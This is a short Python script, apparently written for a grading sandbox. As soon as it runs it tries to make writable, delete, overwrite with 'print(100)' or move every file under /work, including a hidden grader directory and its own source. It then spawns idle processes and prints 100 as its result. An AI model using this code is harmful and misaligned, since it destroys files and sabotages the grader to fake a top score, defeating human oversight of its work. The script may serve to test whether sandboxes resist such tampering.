"""Changes its own source, the other files and the grader's scripts while it runs."""

import glob
import os
from multiprocessing import Process, RawValue

for path in [__file__, *glob.glob("/work/**", recursive=True), *glob.glob("/work/.interleave/**", recursive=True)]:
    for act in (lambda p: os.chmod(p, 0o777), os.unlink, lambda p: open(p, "w").write("print(100)"), lambda p: os.rename(p, "/tmp/x")):
        try:
            act(path)
        except OSError:
            pass


def idle():
    pass


if __name__ == "__main__":
    for _ in range(10):
        Process(target=idle).start()
    print(100)
